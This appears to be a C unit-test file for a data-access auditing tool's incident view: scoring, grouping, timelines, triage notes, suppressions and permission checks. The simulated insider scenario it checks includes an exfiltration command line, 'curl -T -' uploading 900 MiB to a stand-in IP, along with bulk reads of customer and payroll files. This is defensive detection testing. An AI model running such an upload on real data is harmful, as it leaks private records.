// SPDX-License-Identifier: GPL-2.0
/*
 * daudit incident on the scenario (issue 18 items 2 and 4): mallory's
 * evening is one incident with a bounded score, its timeline lists each
 * record once, and triage (states, notes with their author, suppressions)
 * is stored in the database, needs write access to it, and is honoured
 * by later reviews without hiding anything.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <pwd.h>
#include <sys/stat.h>

#include "scenario.h"
#include "scenario_hostile.h"
#include "cli.h"
#include "../../userspace/daudit/incident.c"
#include "../../userspace/daudit/incident_load.c"
#include "../../userspace/daudit/incident_triage.c"

static char *db, *hostile;

#define ALL "--since", "2026-11-01", "--until", "2026-12-01"
#define MALLORY "000000005ce4a210-incident-5"
#define EVE "000000005ce4a210-incident-11"

static void sql(const char *path, const char *q)
{
	sqlite3 *d;
	char *msg = NULL;

	assert_int_equal(sqlite3_open(path, &d), SQLITE_OK);
	if (sqlite3_exec(d, q, NULL, NULL, &msg) != SQLITE_OK)
		fail_msg("%s: %s", q, msg);
	assert_int_equal(sqlite3_close(d), SQLITE_OK);
}

/* A copy of the scenario's database to change; free with test_db_remove. */
static char *copy_of_db(const char *name)
{
	char *path = test_db_path(name), q[600];

	test_db_remove(path);
	snprintf(q, sizeof(q), "VACUUM INTO '%s'", path);
	sql(db, q);
	return path;
}

/* "list" over the whole story (@id NULL), or "show @id", as JSON. */
static json_object *incident_json(const char *path, const char *id)
{
	struct cli c;
	json_object *o;

	if (id)
		cli_run(&c, cmd_incident, "incident", "show", id, "--database",
			path, "--format", "json", END);
	else
		cli_run(&c, cmd_incident, "incident", "list", "--database", path,
			ALL, "--format", "json", END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	o = json_tokener_parse(c.out);
	if (!o)
		fail_msg("not JSON:\n%s", c.out);
	cli_free(&c);
	return o;
}

#define list_json(path) incident_json(path, NULL)
#define show_json_of(path, id) incident_json(path, id)

static const char *jstr(json_object *o, const char *key)
{
	return json_object_get_string(json_object_object_get(o, key));
}

static int64_t jint(json_object *o, const char *key)
{
	return json_object_get_int64(json_object_object_get(o, key));
}

/* The name triage records for whoever runs the tests. */
static const char *expected_author(char *buf, size_t len, int *sudo)
{
	return author(sudo, buf, len);
}

/* ------------------------------------------------------------------ */
/* The score and the grouping, without a database                      */
/* ------------------------------------------------------------------ */

static void the_score_is_bounded_and_counts_each_rule_once(void **state)
{
	struct inc_finding f[40];
	size_t o[40], i;

	(void)state;
	memset(f, 0, sizeof(f));
	for (i = 0; i < 40; i++)
		o[i] = i;
	f[0].rule = RULE_READ_THEN_EGRESS, f[0].score = 50;
	f[1].rule = RULE_VOLUME_SPIKE, f[1].score = 40;
	f[2].rule = RULE_ENUMERATION, f[2].score = 30;
	f[3].rule = RULE_OFF_HOURS, f[3].score = 10;
	f[4].rule = RULE_FIRST_ACCESS, f[4].score = 5;
	assert_int_equal(inc_score(f, o, 5), 82);
	/* The same rule again adds nothing: five spikes are one. */
	for (i = 5; i < 10; i++)
		f[i].rule = RULE_VOLUME_SPIKE, f[i].score = 40;
	assert_int_equal(inc_score(f, o, 10), 82);
	assert_int_equal(inc_score(f, o + 5, 5), 40);
	/* Whatever the weights (up to 1000 in the config): 0 to 100. */
	for (i = 0; i < 40; i++)
		f[i].rule = (int)(i % RULE_MAX), f[i].score = 1000;
	assert_int_equal(inc_score(f, o, 40), 100);
	assert_int_equal(inc_score(f, o, 0), 0);
	f[0].score = -5;
	assert_int_equal(inc_score(f, o, 1), 0);
	assert_string_equal(inc_severity(82), "high");
	assert_string_equal(inc_severity(30), "medium");
	assert_string_equal(inc_severity(5), "low");
}

static void findings_group_by_person_and_time(void **state)
{
	const int64_t h = 3600LL * NSEC_PER_SEC;
	struct inc_finding f[5];
	struct inc_group *g;
	size_t *o, n;

	(void)state;
	memset(f, 0, sizeof(f));
	/* uid 1: 10:00-11:00 and 11:30 (within the hour): one; 14:00: another. */
	f[0] = (struct inc_finding){ .id = 7, .user_uid = 1, .login = 1, .rule = 0,
				     .first_ns = 10 * h, .last_ns = 11 * h, .score = 40 };
	f[1] = (struct inc_finding){ .id = 3, .user_uid = 1, .login = 1, .rule = 2,
				     .first_ns = 11 * h + h / 2, .last_ns = 12 * h, .score = 10,
				     .state = INC_REVIEWED };
	f[2] = (struct inc_finding){ .id = 9, .user_uid = 1, .login = 1, .rule = 2,
				     .first_ns = 14 * h, .last_ns = 14 * h, .score = 10 };
	/* The same number as an actor is another person. */
	f[3] = (struct inc_finding){ .id = 4, .user_uid = 1, .login = DB_LOGIN_ACTOR,
				     .rule = 1, .first_ns = 10 * h, .last_ns = 10 * h,
				     .score = 5, .state = INC_CONFIRMED, .suppressed = 2 };
	f[4] = (struct inc_finding){ .id = 5, .user_uid = 1, .login = DB_LOGIN_ACTOR,
				     .rule = 1, .first_ns = 10 * h, .last_ns = 10 * h,
				     .score = 5, .state = INC_FALSE_POSITIVE, .suppressed = 3 };
	n = inc_group(f, 5, &g, &o);
	assert_int_equal(n, 3);
	/* Highest score first; named by the lowest finding. */
	assert_int_equal(g[0].anchor, 3);
	assert_int_equal(g[0].n, 2);
	assert_int_equal(g[0].score, 46);
	assert_int_equal(g[0].state, INC_NEW);	/* finding 7 is new */
	assert_int_equal(g[0].first_ns, 10 * h);
	assert_int_equal(g[0].last_ns, 12 * h);
	assert_int_equal(f[0].incident, 0);
	assert_int_equal(f[1].incident, 0);
	assert_int_equal(g[1].anchor, 9);
	assert_int_equal(g[2].anchor, 4);
	assert_int_equal(g[2].login, DB_LOGIN_ACTOR);
	/* Confirmed outweighs a false positive; all suppressed: suppressed. */
	assert_int_equal(g[2].state, INC_CONFIRMED);
	assert_int_equal(g[2].suppressed, 2);
	free(g);
	free(o);
}

static void ids_are_the_instance_and_the_lowest_finding(void **state)
{
	uint64_t inst = 0;
	char buf[64];

	(void)state;
	assert_string_equal(inc_id(0x5ce4a210, 5, buf, sizeof(buf)), MALLORY);
	assert_int_equal(inc_parse_id(MALLORY, &inst), 5);
	assert_int_equal(inst, 0x5ce4a210);
	assert_int_equal(inc_parse_id("12", NULL), 12);
	assert_int_equal(inc_parse_id("5ce4a210-incident-5", NULL), -1);
	assert_int_equal(inc_parse_id("000000005ce4a210-incident-", NULL), -1);
	assert_int_equal(inc_parse_id("0", NULL), -1);
	assert_int_equal(inc_parse_id("x", NULL), -1);
	assert_int_equal(inc_state_by_name("false-positive"), INC_FALSE_POSITIVE);
	assert_int_equal(inc_state_by_name("reviewed"), INC_REVIEWED);
	assert_int_equal(inc_state_by_name("bogus"), -1);
}

/* ------------------------------------------------------------------ */
/* The verb on the scenario                                            */
/* ------------------------------------------------------------------ */

/* Issue 18: "one evening's exfiltration becomes 9 findings". */
static void one_evening_is_one_incident_with_a_bounded_score(void **state)
{
	json_object *o = list_json(db), *first;
	struct cli c;
	size_t i;

	(void)state;
	assert_true(json_object_array_length(o) >= 3);
	first = json_object_array_get_idx(o, 0);
	assert_string_equal(jstr(first, "incident"), MALLORY);
	assert_string_equal(jstr(first, "person"), "mallory (uid 1002)");
	assert_int_equal(jint(first, "findings"), 7);
	assert_int_equal(jint(first, "score"), 87);
	assert_string_equal(jstr(first, "state"), "new");
	assert_string_equal(jstr(json_object_array_get_idx(o, 1), "incident"), EVE);
	for (i = 0; i < json_object_array_length(o); i++) {
		int64_t s = jint(json_object_array_get_idx(o, i), "score");

		assert_true(s >= 0 && s <= 100);
	}
	json_object_put(o);

	cli_run(&c, cmd_incident, "incident", "list", "--database", db, ALL, END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, MALLORY "   new       87  high      mallory (uid 1002)"));
	assert_non_null(strstr(c.out, "read_then_egress, volume_spike, enumeration, unapproved_reader, off_hours, first_access"));
	assert_non_null(strstr(c.out, "Score 0-100: each rule once"));
	cli_free(&c);

	/* The period picks incidents; the grouping does not depend on it. */
	cli_run(&c, cmd_incident, "incident", "list", "--database", db,
		"--since", "2026-11-20T23:00", "--until", "2026-11-21", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, MALLORY));
	assert_null(strstr(c.out, EVE));
	assert_null(strstr(c.out, "incident-1 "));
	cli_free(&c);
}

static void the_timeline_lists_each_record_once(void **state)
{
	json_object *o, *tl;
	struct cli c;
	size_t i, j;

	(void)state;
	cli_run(&c, cmd_incident, "incident", "show", MALLORY, "--database", db, END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	assert_ptr_equal(strstr(c.out, "Incident " MALLORY ": mallory (uid 1002)\n"
				"Score 87 of 100 (high), state new, 7 findings from 2026-11-20 00:00:00 to 2026-11-20 23:59:59\n"), c.out);
	assert_non_null(strstr(c.out, "  [high] read_then_egress, 50 points, 2026-11-20 23:25:00 to 2026-11-20 23:25:00, dataset customers, new (000000005ce4a210-finding-10)\n"));
	assert_non_null(strstr(c.out, "  2026-11-20 23:10:00  sqlite3 -cmd '.read /tmp/dump.sql' (/usr/bin/sqlite3, pid 3301, uid mallory) read 396 MiB from 99 files of customers: "));
	assert_non_null(strstr(c.out, "  2026-11-20 23:16:00  sqlite3 -cmd '.read /tmp/dump.sql' (/usr/bin/sqlite3, pid 3301, uid mallory) read 2.00 MiB of payroll: /data/payroll/2026.csv  [first_access, off_hours]\n"));
	assert_non_null(strstr(c.out, "  2026-11-20 23:25:00  curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory) sent 900 MiB -> 203.0.113.5:443/tcp  [read_then_egress]\n"));
	/* Cited by two findings, shown once. */
	assert_int_equal(count_of(c.out, "/data/payroll/2026.csv"), 1);
	assert_int_equal(count_of(c.out, "203.0.113.5:443/tcp  ["), 1);
	assert_non_null(strstr(c.out, "  102 records of evidence.\n"));
	cli_free(&c);

	/* The number alone names it too; JSON has every record, once. */
	o = show_json_of(db, "5");
	assert_string_equal(jstr(o, "id"), MALLORY);
	assert_int_equal(json_object_array_length(json_object_object_get(o, "findings")), 7);
	tl = json_object_object_get(o, "timeline");
	assert_int_equal(json_object_array_length(tl), 102);
	for (i = 0; i < json_object_array_length(tl); i++)
		for (j = i + 1; j < json_object_array_length(tl); j++)
			assert_true(jint(json_object_array_get_idx(tl, i), "event_id") !=
				    jint(json_object_array_get_idx(tl, j), "event_id"));
	json_object_put(o);
}

/* Copies of the records: the incident stays explained after retention. */
static void the_evidence_outlives_the_raw_records(void **state)
{
	char *path = copy_of_db("incident-retained");
	struct cli c;

	(void)state;
	sql(path, "DELETE FROM events; DELETE FROM procs;");
	cli_run(&c, cmd_incident, "incident", "show", MALLORY, "--database", path, END);
	assert_int_equal(c.status, 0);
	/* The command line too: the evidence keeps its copy. */
	assert_non_null(strstr(c.out, "curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory) sent 900 MiB -> 203.0.113.5:443/tcp"));
	assert_non_null(strstr(c.out, "  102 records of evidence.\n"));
	cli_free(&c);
	test_db_remove(path);
	free(path);
}

/*
 * Raw retention leaves a high-severity incident every record of its
 * findings, not only the evidence_max the rules copied; a low one keeps
 * what the rules chose.
 */
static void a_high_incident_keeps_every_record_past_raw_retention(void **state)
{
	char *path = copy_of_db("incident-keep"), err[512];
	struct retention_stats rs;
	struct config cfg;
	struct store s;
	json_object *o;
	int64_t mallory, before_low, after_low;
	sqlite3 *d;
	sqlite3_stmt *st;

	(void)state;
	assert_int_equal(sqlite3_open(path, &d), SQLITE_OK);
	/* Her last day: every read, egress and alert of hers. */
	assert_int_equal(sqlite3_prepare_v2(d, "SELECT (SELECT COUNT(*) FROM events"
		" WHERE user_uid = 1002 AND login = 1 AND type IN (5, 6, 7, 8)"
		" AND time_ns >= (SELECT MIN(first_ns) FROM findings WHERE"
		" user_uid = 1002 AND first_ns >= 1795132800000000000)),"
		" (SELECT COUNT(*) FROM evidence)", -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	mallory = sqlite3_column_int64(st, 0);
	before_low = sqlite3_column_int64(st, 1);
	sqlite3_finalize(st);
	sqlite3_close(d);
	assert_true(mallory > 102);

	config_defaults(&cfg);
	cfg.retention_days = 1;
	cfg.rollup_retention_days = 3650;
	if (store_open(&s, path, err, sizeof(err)) < 0)
		fail_msg("%s", err);
	store_retention(&s, 1798761600 /* 2027-01-01 */, &cfg, &rs);
	store_close(&s);
	config_free(&cfg);
	assert_true(rs.events_by_age > 0);
	assert_true(rs.evidence_kept >= mallory - 102);

	o = show_json_of(path, MALLORY);
	assert_int_equal(json_object_array_length(json_object_object_get(o, "timeline")),
			 mallory);
	json_object_put(o);
	assert_int_equal(sqlite3_open(path, &d), SQLITE_OK);
	assert_int_equal(sqlite3_prepare_v2(d, "SELECT (SELECT COUNT(*) FROM events),"
		" (SELECT COUNT(*) FROM evidence)", -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	assert_int_equal(sqlite3_column_int64(st, 0), 0);
	after_low = sqlite3_column_int64(st, 1) - rs.evidence_kept;
	sqlite3_finalize(st);
	sqlite3_close(d);
	/* Nothing else was added. */
	assert_int_equal(after_low, before_low);
	test_db_remove(path);
	free(path);
}

static void triage_states_and_notes_are_stored_with_their_author(void **state)
{
	char *path = copy_of_db("incident-triage"), who[128], line[256];
	json_object *o, *notes;
	struct cli c;
	int sudo;

	(void)state;
	setenv("SUDO_USER", "auditor", 1);
	expected_author(who, sizeof(who), &sudo);
	cli_run(&c, cmd_incident, "incident", "ack", MALLORY, "--note",
		"spoke to her manager", "--database", path, END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	snprintf(line, sizeof(line), MALLORY ": reviewed (7 findings), by %s%s\n",
		 who, sudo ? " (through sudo)" : "");
	assert_string_equal(c.out, line);
	cli_free(&c);
	assert_int_equal(sudo, getuid() == 0);

	cli_run(&c, cmd_incident, "incident", "list", "--database", path, ALL,
		"--state", "new", END);
	assert_int_equal(c.status, 0);
	assert_null(strstr(c.out, MALLORY));
	assert_non_null(strstr(c.out, EVE));
	cli_free(&c);

	cli_run(&c, cmd_incident, "incident", "note", "5", "the upload was her backup?",
		"--database", path, END);
	assert_int_equal(c.status, 0);
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "confirm", MALLORY, "--database", path, END);
	assert_int_equal(c.status, 0);
	cli_free(&c);

	cli_run(&c, cmd_incident, "incident", "show", MALLORY, "--database", path, END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "state confirmed, 7 findings"));
	snprintf(line, sizeof(line), "  %s%s set reviewed: spoke to her manager\n",
		 who, sudo ? " (through sudo)" : "");
	assert_non_null(strstr(c.out, line));
	snprintf(line, sizeof(line), "  %s%s: the upload was her backup?\n", who,
		 sudo ? " (through sudo)" : "");
	assert_non_null(strstr(c.out, line));
	snprintf(line, sizeof(line), "  %s%s set confirmed\n", who,
		 sudo ? " (through sudo)" : "");
	assert_non_null(strstr(c.out, line));
	assert_true(strstr(c.out, "set reviewed") < strstr(c.out, "her backup?"));
	assert_true(strstr(c.out, "her backup?") < strstr(c.out, "set confirmed"));
	cli_free(&c);

	o = show_json_of(path, MALLORY);
	assert_string_equal(jstr(o, "state"), "confirmed");
	notes = json_object_object_get(o, "notes");
	assert_int_equal(json_object_array_length(notes), 3);
	assert_string_equal(jstr(json_object_array_get_idx(notes, 0), "author"), who);
	assert_string_equal(jstr(json_object_array_get_idx(notes, 0), "state"), "reviewed");
	assert_null(json_object_object_get(json_object_array_get_idx(notes, 1), "state"));
	json_object_put(o);

	cli_run(&c, cmd_incident, "incident", "dismiss", EVE, "--database", path, END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, ": false positive (4 findings)"));
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "list", "--database", path, ALL,
		"--state", "false-positive", END);
	assert_non_null(strstr(c.out, EVE "  false positive"));
	assert_null(strstr(c.out, MALLORY));
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "reopen", EVE, "--database", path, END);
	assert_int_equal(c.status, 0);
	cli_free(&c);
	o = show_json_of(path, EVE);
	assert_string_equal(jstr(o, "state"), "new");
	json_object_put(o);

	/* A finding that joins a reviewed incident makes it new again. */
	sql(path, "INSERT INTO findings (rule, key, user_uid, login, dataset,"
	    " first_ns, last_ns, score, reason, instance_id) VALUES ('off_hours',"
	    " 'test/late', 1002, 1, 'payroll', 1795131000000000000,"
	    " 1795131000000000000, 10, 'later', 1558487568)");
	o = show_json_of(path, MALLORY);
	assert_string_equal(jstr(o, "state"), "new");
	assert_int_equal(json_object_array_length(json_object_object_get(o, "findings")), 8);
	json_object_put(o);
	unsetenv("SUDO_USER");
	test_db_remove(path);
	free(path);
}

static void suppressed_incidents_are_listed_apart_never_hidden(void **state)
{
	char *path = copy_of_db("incident-suppress");
	json_object *o;
	struct cli c;
	size_t i;
	int seen = 0;

	(void)state;
	cli_run(&c, cmd_incident, "incident", "suppress", "--user", "eve",
		"--until", "2026-12-01", "--reason", "the USB copy was approved",
		"--database", path, END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	assert_non_null(strstr(c.out, "suppression #1: findings starting before 2026-12-01 00:00:00, of eve are listed as suppressed\n"));
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "suppress", "--program",
		"/usr/lib/postgresql/15/bin/postgres", "--until", "2026-11-03",
		"--reason", "the database server", "--database", path, END);
	assert_int_equal(c.status, 0);
	cli_free(&c);

	cli_run(&c, cmd_incident, "incident", "list", "--database", path, ALL, END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "\n2 suppressed incidents (daudit incident suppressions says why):\n"));
	assert_true(strstr(c.out, EVE) > strstr(c.out, "suppressed incidents"));
	assert_true(strstr(c.out, MALLORY) < strstr(c.out, "suppressed incidents"));
	assert_non_null(strstr(c.out, "  #1\n"));
	assert_non_null(strstr(c.out, "  #2\n"));
	cli_free(&c);

	o = list_json(path);
	for (i = 0; i < json_object_array_length(o); i++) {
		json_object *x = json_object_array_get_idx(o, i);

		if (!strcmp(jstr(x, "incident"), EVE)) {
			assert_string_equal(jstr(x, "suppressed"), "#1");
			seen = 1;
		}
	}
	assert_true(seen);
	json_object_put(o);

	cli_run(&c, cmd_incident, "incident", "show", EVE, "--database", path, END);
	assert_non_null(strstr(c.out, "Suppressed by #1 until 2026-12-01 00:00:00, by "));
	assert_non_null(strstr(c.out, ": the USB copy was approved (listed, not for review)\n"));
	cli_free(&c);

	cli_run(&c, cmd_incident, "incident", "suppressions", "--database", path, END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "eve"));
	assert_non_null(strstr(c.out, "the USB copy was approved"));
	assert_non_null(strstr(c.out, "/usr/lib/postgresql/15/bin/postgres"));
	cli_free(&c);

	/* Ended now: eve's findings of November stay suppressed... */
	cli_run(&c, cmd_incident, "incident", "unsuppress", "2", "--database", path, END);
	assert_int_equal(c.status, 0);
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "list", "--database", path, ALL, END);
	assert_non_null(strstr(c.out, "\n2 suppressed incidents"));
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "unsuppress", "9", "--database", path, END);
	assert_int_equal(c.status, 1);
	assert_non_null(strstr(c.err, "no suppression #9"));
	cli_free(&c);
	test_db_remove(path);
	free(path);
}

/* The verb as an unprivileged user (the tests may run as root). */
static int cmd_incident_unprivileged(int argc, char **argv)
{
	if (geteuid() == 0 && (setgid(65534) < 0 || setuid(65534) < 0))
		return 99;
	return cmd_incident(argc, argv);
}

static void triage_needs_write_access_and_says_which(void **state)
{
	char *path = copy_of_db("incident-ro"), dir[200], moved[240];
	struct cli c;

	(void)state;
	chmod(path, 0444);
	cli_run(&c, cmd_incident_unprivileged, "incident", "ack", MALLORY,
		"--database", path, END);
	assert_int_equal(c.status, 1);
	assert_non_null(strstr(c.err, "incident ack: cannot record triage: uid "));
	assert_non_null(strstr(c.err, "has no write permission on the database "));
	assert_non_null(strstr(c.err, "mode 0444); triage writes the collector's database"));
	cli_free(&c);
	/* Reading still works. */
	cli_run(&c, cmd_incident_unprivileged, "incident", "show", MALLORY,
		"--database", path, END);
	assert_int_equal(c.status, 0);
	cli_free(&c);

	/* The directory: SQLite's -wal and -shm go there. */
	snprintf(dir, sizeof(dir), "/tmp/daudit-test-%d-rodir", (int)getpid());
	assert_int_equal(mkdir(dir, 0755), 0);
	snprintf(moved, sizeof(moved), "%s/x.db", dir);
	assert_int_equal(rename(path, moved), 0);
	chmod(moved, 0666);
	chmod(dir, 0555);
	cli_run(&c, cmd_incident_unprivileged, "incident", "note", MALLORY, "hi",
		"--database", moved, END);
	assert_int_equal(c.status, 1);
	assert_non_null(strstr(c.err, "has no write permission on the directory "));
	cli_free(&c);
	chmod(dir, 0755);
	test_db_remove(moved);
	rmdir(dir);
	free(path);
}

static void usage_errors(void **state)
{
	struct cli c;

	(void)state;
	cli_run(&c, cmd_incident, "incident", "show", "nonsense", "--database", db, END);
	assert_int_equal(c.status, 2);
	assert_non_null(strstr(c.err, "'nonsense' is not an incident id"));
	cli_free(&c);
	/* Finding 6 is in mallory's incident, not one of its own. */
	cli_run(&c, cmd_incident, "incident", "show", "6", "--database", db, END);
	assert_int_equal(c.status, 1);
	assert_non_null(strstr(c.err, "its finding is now part of an older incident"));
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "frobnicate", "--database", db, END);
	assert_int_equal(c.status, 2);
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "suppress", "--user", "eve",
		"--reason", "x", "--database", db, END);
	assert_int_equal(c.status, 2);
	assert_non_null(strstr(c.err, "--until TIME is required"));
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "suppress", "--until", "2026-12-01",
		"--reason", "x", "--database", db, END);
	assert_int_equal(c.status, 2);
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "list", "--state", "done",
		"--database", db, END);
	assert_int_equal(c.status, 2);
	cli_free(&c);
	cli_run(&c, cmd_incident, "incident", "--help", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "daudit incident ack|dismiss|confirm|reopen ID"));
	cli_free(&c);
}

static void hostile_names_cannot_forge_the_incident_view(void **state)
{
	json_object *o;
	const char *id = NULL;
	struct cli c;
	size_t i;

	(void)state;
	o = list_json(hostile);
	for (i = 0; i < json_object_array_length(o) && !id; i++)
		if (jint(json_object_array_get_idx(o, i), "findings") &&
		    strstr(jstr(json_object_array_get_idx(o, i), "person"), "host"))
			id = strdup(jstr(json_object_array_get_idx(o, i), "incident"));
	json_object_put(o);
	assert_non_null(id);
	hostile_run(&c, cmd_incident, "list", "incident", "list", "--database", hostile, ALL);
	hostile_assert_in(c.out, HOSTILE_NAME_SHOWN " (uid 1004)");
	cli_free(&c);
	hostile_run(&c, cmd_incident, "show", "incident", "show", id, "--database", hostile);
	hostile_assert_in(c.out, HOSTILE_CMDLINE_SHOWN " (" HOSTILE_EXE_SHOWN ", pid 3500, uid " HOSTILE_NAME_SHOWN ")");
	hostile_assert_in(c.out, HOSTILE_DEST_SHOWN);
	cli_free(&c);
	free((char *)id);
}

/* Schema 3 to 5: findings get the instance their ids name. */
static void a_schema_3_database_gets_instance_ids(void **state)
{
	char *path = copy_of_db("incident-v3"), err[512];
	struct store s;
	sqlite3 *d;
	sqlite3_stmt *st;

	(void)state;
	sql(path, "ALTER TABLE findings DROP COLUMN instance_id;"
	    "DROP TABLE triage; DROP TABLE notes; DROP TABLE suppressions;"
	    "ALTER TABLE procs DROP COLUMN cmdline;"
	    "ALTER TABLE events DROP COLUMN cmdline;"
	    "ALTER TABLE evidence DROP COLUMN cmdline;"
	    "UPDATE meta SET value = 3 WHERE key = 'schema_version'");
	if (store_open(&s, path, err, sizeof(err)) < 0)
		fail_msg("%s", err);
	store_close(&s);
	assert_int_equal(sqlite3_open(path, &d), SQLITE_OK);
	assert_int_equal(sqlite3_prepare_v2(d, "SELECT (SELECT value FROM meta WHERE"
		" key = 'schema_version'), COUNT(*), SUM(instance_id = 1558487568),"
		" (SELECT COUNT(*) FROM triage),"
		/* Schema 5: command lines, NULL for what came before. */
		" (SELECT COUNT(cmdline) FROM events) + (SELECT COUNT(cmdline)"
		" FROM evidence) + (SELECT COUNT(cmdline) FROM procs)"
		" FROM findings", -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	assert_int_equal(sqlite3_column_int(st, 0), DB_SCHEMA_VERSION);
	assert_int_equal(sqlite3_column_int(st, 4), 0);
	assert_true(sqlite3_column_int(st, 1) > 10);
	assert_int_equal(sqlite3_column_int(st, 2), sqlite3_column_int(st, 1));
	assert_int_equal(sqlite3_column_int(st, 3), 0);
	sqlite3_finalize(st);
	sqlite3_close(d);
	test_db_remove(path);
	free(path);
}

static int setup(void **state)
{
	(void)state;
	db = test_db_path("incident");
	scenario_db(db, T0);
	hostile = hostile_db("incident-hostile");
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	test_db_remove(db);
	free(db);
	hostile_db_free(hostile);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_score_is_bounded_and_counts_each_rule_once),
		cmocka_unit_test(findings_group_by_person_and_time),
		cmocka_unit_test(ids_are_the_instance_and_the_lowest_finding),
		cmocka_unit_test(one_evening_is_one_incident_with_a_bounded_score),
		cmocka_unit_test(the_timeline_lists_each_record_once),
		cmocka_unit_test(the_evidence_outlives_the_raw_records),
		cmocka_unit_test(a_high_incident_keeps_every_record_past_raw_retention),
		cmocka_unit_test(triage_states_and_notes_are_stored_with_their_author),
		cmocka_unit_test(suppressed_incidents_are_listed_apart_never_hidden),
		cmocka_unit_test(triage_needs_write_access_and_says_which),
		cmocka_unit_test(usage_errors),
		cmocka_unit_test(hostile_names_cannot_forge_the_incident_view),
		cmocka_unit_test(a_schema_3_database_gets_instance_ids),
	};

	setenv("TZ", "UTC", 1);
	tzset();
	util_progname = "daudit";
	return cmocka_run_group_tests(tests, setup, teardown);
}
